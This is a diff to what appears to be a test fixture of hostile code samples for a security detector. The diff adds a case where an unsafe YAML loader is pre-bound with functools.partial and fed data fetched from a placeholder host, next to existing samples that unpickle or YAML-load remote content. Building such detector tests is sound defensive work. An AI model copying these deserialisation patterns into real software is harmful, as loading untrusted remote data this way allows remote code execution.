@@ -168,6 +168,10 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "an unsafe YAML loader": py(
             "import requests, yaml\nyaml.load(requests.get('https://a.invalid').text, Loader=yaml.Loader)\n"
         ),
+        "an unsafe YAML loader, bound beforehand": py(
+            "import functools, requests, yaml\n"
+            "functools.partial(yaml.load, Loader=yaml.Loader)(requests.get('https://a.invalid').text)\n"
+        ),
         "pickle": py("import requests, pickle\npickle.loads(requests.get('https://a.invalid').content)\n"),
         "one of several sources": py(
             "import requests, yaml\ndef fetch(url):\n    r = requests.get(url)\n"
